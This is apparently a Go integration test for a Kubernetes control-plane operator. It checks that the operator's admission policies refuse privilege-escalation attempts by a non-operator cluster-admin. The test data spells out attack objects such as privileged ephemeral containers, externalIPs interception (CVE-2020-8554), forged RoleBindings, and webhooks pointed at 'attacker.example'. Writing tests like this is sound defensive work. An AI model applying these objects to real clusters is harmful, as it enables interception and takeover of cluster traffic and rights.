package remote_test

import (
	"context"
	"strings"
	"testing"
	"time"

	cpv1 "github.com/cozystack/computeplane/api/v1alpha1"

	"github.com/cozystack/computeplane/remote/posture"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/cozystack/computeplane/internal/devenv"
	"github.com/cozystack/computeplane/remote"
)

// TestPoliciesRefuseOnARealAPIServer applies the plane's admission policies to a real
// apiserver whose namespaces have no Pod Security labels (so nothing but the policies
// can refuse) and tries, as a cluster-admin who is not the operator, each way around
// them the hardening issue lists. Each must be refused by the policy itself; what a
// chart legitimately does must still pass.
func TestPoliciesRefuseOnARealAPIServer(t *testing.T) {
	scheme := testScheme(t)
	plane, err := devenv.StartTenant(scheme)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = plane.Stop() })
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	pos := posture.Posture{Level: "restricted", Version: "latest", Exempt: []string{"kube-system"}, Operator: "operator",
		Labels: map[string]string{"app.kubernetes.io/managed-by": "computeplane-operator"}}
	as := func(user string) (client.Client, kubernetes.Interface) {
		cfg := rest.CopyConfig(plane.Config)
		cfg.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: []string{"system:masters"}}
		c, err := client.New(cfg, client.Options{Scheme: scheme})
		if err != nil {
			t.Fatal(err)
		}
		return c, kubernetes.NewForConfigOrDie(cfg)
	}
	operator, _ := as("operator")
	mallory, malloryCS := as("mallory")
	if wrote, _, err := remote.Harden(ctx, operator, pos, "test"); err != nil || len(wrote) == 0 {
		t.Fatalf("hardening wrote %v (err=%v)", wrote, err)
	}
	// The canary the operator uses before it opens the gate sees every policy in force.
	canary, _ := as(posture.CanaryUser)
	deadline := time.Now().Add(20 * time.Second)
	for pending, err := remote.Unenforced(ctx, canary, pos); err != nil || len(pending) > 0; pending, err = remote.Unenforced(ctx, canary, pos) {
		if time.Now().After(deadline) {
			t.Fatalf("policies still not in force: %v (err=%v)", pending, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
	// A namespace without Pod Security labels: the policies stand alone.
	if err := operator.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "bare"}}); err != nil {
		t.Fatal(err)
	}

	pod := func(name string, mut func(*corev1.Pod)) *corev1.Pod {
		p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", Name: name},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "busybox"}}}}
		if mut != nil {
			mut(p)
		}
		return p
	}
	binding := func(subjects ...rbacv1.Subject) *rbacv1.RoleBinding {
		return &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", GenerateName: "rb-"},
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"}, Subjects: subjects}
	}
	crd := func(strategy string) *unstructured.Unstructured {
		conv := map[string]any{"strategy": strategy}
		if strategy == "Webhook" {
			conv["webhook"] = map[string]any{"conversionReviewVersions": []any{"v1"},
				"clientConfig": map[string]any{"url": "https://attacker.example/convert"}}
		}
		return &unstructured.Unstructured{Object: map[string]any{
			"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
			"metadata": map[string]any{"name": "widgets.example.com"},
			"spec": map[string]any{"group": "example.com", "scope": "Namespaced",
				"names":      map[string]any{"plural": "widgets", "singular": "widget", "kind": "Widget", "listKind": "WidgetList"},
				"conversion": conv,
				"versions": []any{map[string]any{"name": "v1", "served": true, "storage": true,
					"schema": map[string]any{"openAPIV3Schema": map[string]any{"type": "object", "x-kubernetes-preserve-unknown-fields": true}}}}},
		}}
	}
	apiService := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
		"metadata": map[string]any{"name": "v1.example.com"},
		"spec": map[string]any{"group": "example.com", "version": "v1", "groupPriorityMinimum": int64(100), "versionPriority": int64(10),
			"insecureSkipTLSVerify": true, "service": map[string]any{"namespace": "bare", "name": "intercept"}},
	}}
	dry := client.DryRunAll
	attacks := []struct {
		name string
		do   func() error
		want string
	}{
		{"host port", func() error {
			return mallory.Create(ctx, pod("hostport", func(p *corev1.Pod) {
				p.Spec.Containers[0].Ports = []corev1.ContainerPort{{ContainerPort: 80, HostPort: 80}}
			}), dry)
		}, "host ports are not allowed"},
		{"privileged ephemeral container", func() error {
			p := pod("debug-target", nil)
			if err := mallory.Create(ctx, p); client.IgnoreAlreadyExists(err) != nil {
				return err
			}
			p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
				Name: "debugger", Image: "busybox", SecurityContext: &corev1.SecurityContext{Privileged: ptr.To(true)}}}}
			_, err := malloryCS.CoreV1().Pods("bare").UpdateEphemeralContainers(ctx, p.Name, p, metav1.UpdateOptions{})
			return err
		}, "privileged containers are not allowed"},
		{"externalIPs (CVE-2020-8554)", func() error {
			return mallory.Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", Name: "mitm"},
				Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 443}}, ExternalIPs: []string{"10.96.0.1"}}}, dry)
		}, "externalIPs are not allowed"},
		{"non-expiring ServiceAccount token", func() error {
			return mallory.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", Name: "forever",
				Annotations: map[string]string{corev1.ServiceAccountNameKey: "default"}}, Type: corev1.SecretTypeServiceAccountToken}, dry)
		}, "ServiceAccount token Secrets (non-expiring tokens) are not allowed"},
		{"binding to system:unauthenticated", func() error {
			return mallory.Create(ctx, binding(rbacv1.Subject{Kind: rbacv1.GroupKind, APIGroup: rbacv1.GroupName, Name: "system:unauthenticated"}), dry)
		}, "may bind only ServiceAccounts of their own namespace"},
		{"binding to another namespace's ServiceAccount", func() error {
			return mallory.Create(ctx, binding(rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: "kube-system", Name: "default"}), dry)
		}, "may bind only ServiceAccounts of their own namespace"},
		{"binding to a user", func() error {
			return mallory.Create(ctx, binding(rbacv1.Subject{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: "mallory"}), dry)
		}, "may bind only ServiceAccounts of their own namespace"},
		{"APIService", func() error { return mallory.Create(ctx, apiService.DeepCopy(), dry) }, "API registration of a ComputePlane are owned by the operator"},
		{"CRD conversion webhook", func() error { return mallory.Create(ctx, crd("Webhook"), dry) }, "conversion webhook are not allowed"},
		{"mutating webhook", func() error {
			return mallory.Create(ctx, &admissionv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "inject"},
				Webhooks: []admissionv1.MutatingWebhook{{Name: "inject.example.com", SideEffects: ptr.To(admissionv1.SideEffectClassNone),
					AdmissionReviewVersions: []string{"v1"}, ClientConfig: admissionv1.WebhookClientConfig{URL: ptr.To("https://attacker.example")}}}}, dry)
		}, "owned by the operator"},
	}
	// What the operator created in a namespace (the deployer's identity, say) is its own:
	// mallory can neither delete, edit nor forge it.
	owned := func() *corev1.ServiceAccount {
		return &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", Name: "computeplane-deployer", Labels: pos.Labels}}
	}
	ownedRole := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", Name: "computeplane-deployer", Labels: pos.Labels},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get"}}}}
	for _, o := range []client.Object{owned(), ownedRole} {
		if err := operator.Create(ctx, o); err != nil {
			t.Fatal(err)
		}
	}
	attacks = append(attacks, []struct {
		name string
		do   func() error
		want string
	}{
		{"deleting the operator's ServiceAccount", func() error { return mallory.Delete(ctx, owned(), dry) }, "only the operator may create, change or delete it"},
		// Nothing runs as the deployer or holds a token of it, the operator included: the
		// gate's closing must leave nothing writing with its rights.
		{"a pod running as the deployer", func() error {
			return mallory.Create(ctx, pod("as-deployer", func(p *corev1.Pod) { p.Spec.ServiceAccountName = cpv1.DeployerName }), dry)
		}, "Pods may not run as the ComputePlane deployer"},
		{"a pod running as the deployer, as the operator", func() error {
			return operator.Create(ctx, pod("as-deployer", func(p *corev1.Pod) { p.Spec.ServiceAccountName = cpv1.DeployerName }), dry)
		}, "Pods may not run as the ComputePlane deployer"},
		{"a token Secret for the deployer, as the operator", func() error {
			return operator.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", Name: "deployer-forever",
				Annotations: map[string]string{corev1.ServiceAccountNameKey: cpv1.DeployerName}}, Type: corev1.SecretTypeServiceAccountToken}, dry)
		}, "ServiceAccount token Secrets for the ComputePlane deployer"},
		{"unlabelling the operator's Role", func() error {
			r := &rbacv1.Role{}
			if err := mallory.Get(ctx, client.ObjectKeyFromObject(ownedRole), r); err != nil {
				return err
			}
			r.Labels = nil
			return mallory.Update(ctx, r, dry)
		}, "only the operator may create, change or delete it"},
		{"editing the operator's Role, as kube-controller-manager (it may only delete)", func() error {
			kcm, _ := as("system:kube-controller-manager")
			r := &rbacv1.Role{}
			if err := kcm.Get(ctx, client.ObjectKeyFromObject(ownedRole), r); err != nil {
				return err
			}
			r.Rules[0].Verbs = []string{"*"}
			return kcm.Update(ctx, r, dry)
		}, "only the operator may create, change or delete it"},
		{"forging an operator RoleBinding", func() error {
			return mallory.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", Name: "forged", Labels: pos.Labels},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "computeplane-deployer"},
				Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: "bare", Name: "app"}}}, dry)
		}, "only the operator may create, change or delete it"},
	}...)
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			// The apiserver loads new policies a moment after they are created.
			deadline := time.Now().Add(20 * time.Second)
			for {
				err := a.do()
				if err != nil && strings.Contains(err.Error(), a.want) && strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
					return
				}
				if time.Now().After(deadline) {
					t.Fatalf("got %v; want a refusal by the plane's policy containing %q", err, a.want)
				}
				time.Sleep(100 * time.Millisecond)
			}
		})
	}

	// What charts do is still allowed.
	for name, do := range map[string]func() error{
		"a plain pod": func() error { return mallory.Create(ctx, pod("plain", nil), dry) },
		"a binding to its own ServiceAccount": func() error {
			return mallory.Create(ctx, binding(rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: "bare", Name: "app"}), dry)
		},
		"a CRD without a webhook": func() error { return mallory.Create(ctx, crd("None"), dry) },
		"a ServiceAccount of its own": func() error {
			return mallory.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", Name: "app"}}, dry)
		},
		"deleting the operator's ServiceAccount, as kube-controller-manager (a namespace going)": func() error {
			kcm, _ := as("system:kube-controller-manager")
			return kcm.Delete(ctx, owned(), dry)
		},
		"deleting the operator's ServiceAccount, as the namespace controller": func() error {
			nc, _ := as("system:serviceaccount:kube-system:namespace-controller")
			return nc.Delete(ctx, owned(), dry)
		},
		"editing its Role, as the operator": func() error {
			r := &rbacv1.Role{}
			if err := operator.Get(ctx, client.ObjectKeyFromObject(ownedRole), r); err != nil {
				return err
			}
			r.Rules[0].Verbs = []string{"get", "list"}
			return operator.Update(ctx, r, dry)
		},
		"a NodePort Service, as the operator": func() error {
			return operator.Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "bare", Name: "np"},
				Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeNodePort, Ports: []corev1.ServicePort{{Port: 80}}}}, dry)
		},
	} {
		if err := do(); err != nil {
			t.Errorf("%s was refused: %v", name, err)
		}
	}

	// Kubernetes runs no admission policy on mutating policies; the read-back reports one.
	mapObj := &admissionv1.MutatingAdmissionPolicy{ObjectMeta: metav1.ObjectMeta{Name: "rewrite"},
		Spec: admissionv1.MutatingAdmissionPolicySpec{
			MatchConstraints: &admissionv1.MatchResources{ResourceRules: []admissionv1.NamedRuleWithOperations{{RuleWithOperations: admissionv1.RuleWithOperations{
				Operations: []admissionv1.OperationType{admissionv1.Create},
				Rule:       admissionv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}}}},
			Mutations: []admissionv1.Mutation{{PatchType: admissionv1.PatchTypeApplyConfiguration,
				ApplyConfiguration: &admissionv1.ApplyConfiguration{Expression: "Object{}"}}},
			ReinvocationPolicy: admissionv1.NeverReinvocationPolicy,
		}}
	if err := mallory.Create(ctx, mapObj); err != nil {
		t.Fatalf("creating a MutatingAdmissionPolicy: %v", err)
	}
	found, err := remote.Inspect(ctx, operator, pos)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.Join(found.Admission, ";"), "MutatingAdmissionPolicy rewrite exists") {
		t.Errorf("a foreign MutatingAdmissionPolicy was not reported: %v", found.Admission)
	}
	if err := mallory.Delete(ctx, mapObj); err != nil {
		t.Fatal(err)
	}

	// A policy narrowed by an added exclusion (annotations kept, as kubectl edit does) is
	// not as applied.
	vap := &admissionv1.ValidatingAdmissionPolicy{}
	if err := operator.Get(ctx, client.ObjectKey{Name: "computeplane-pod-hardening"}, vap); err != nil {
		t.Fatal(err)
	}
	vap.Spec.MatchConstraints.ExcludeResourceRules = []admissionv1.NamedRuleWithOperations{{ResourceNames: []string{"escape"},
		RuleWithOperations: admissionv1.RuleWithOperations{Operations: []admissionv1.OperationType{admissionv1.Create},
			Rule: admissionv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}}}
	if err := operator.Update(ctx, vap); err != nil {
		t.Fatal(err)
	}
	found, err = remote.Inspect(ctx, operator, pos)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(found.Admission, ";"); got != "ValidatingAdmissionPolicy computeplane-pod-hardening" {
		t.Errorf("after narrowing the pod hardening policy the read-back found %q", got)
	}
}
